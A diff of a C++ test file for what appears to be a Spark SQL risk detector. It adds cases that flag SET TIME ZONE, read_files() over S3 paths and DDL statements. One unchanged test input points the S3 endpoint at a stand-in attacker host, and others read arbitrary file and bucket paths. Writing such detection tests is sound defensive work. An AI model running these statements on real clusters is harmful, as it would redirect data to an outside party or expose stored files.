@@ -184,6 +184,7 @@ TEST(SparkSqlRules, SetConfigurationIsHigh) {
   ExpectIssue("SET spark.hadoop.fs.s3a.endpoint=http://attacker.invalid", SqlIssueKind::kSetConfig,
               Severity::kHigh, "fs.s3a.endpoint");
   ExpectIssue("set `spark.sql.runSQLOnFiles` = true", SqlIssueKind::kSetConfig, Severity::kHigh);
+  ExpectIssue("SET TIME ZONE 'UTC'", SqlIssueKind::kCommand, Severity::kMedium, "TIME ZONE");
 }
 
 TEST(SparkSqlRules, FilePathRelationsAreHigh) {
@@ -195,6 +196,18 @@ TEST(SparkSqlRules, FilePathRelationsAreHigh) {
               Severity::kHigh, "binaryFile");
   ExpectIssue("SELECT * FROM __THIS__, json.s3a://bucket/k.json", SqlIssueKind::kFileRelation,
               Severity::kHigh, "s3a://bucket/k.json");
+}
+
+TEST(SparkSqlRules, ReadFilesIsAFileRelation) {
+  ExpectIssue("SELECT * FROM read_files('s3://bucket/data/', format => 'csv')",
+              SqlIssueKind::kFileRelation, Severity::kHigh, "s3://bucket/data/");
+}
+
+TEST(SparkSqlRules, DdlTargetsAreNotFunctionCalls) {
+  std::vector<SqlIssue> issues =
+      AnalyzeSqlStatement("CREATE TABLE IF NOT EXISTS t (a INT) USING parquet OPTIONS (path '/x')");
+  EXPECT_EQ(Find(issues, SqlIssueKind::kUnknownFunction), nullptr) << Describe(issues);
+  EXPECT_NE(Find(issues, SqlIssueKind::kCommand), nullptr) << Describe(issues);
 }
 
 TEST(SparkSqlRules, CredentialPathsAreCritical) {
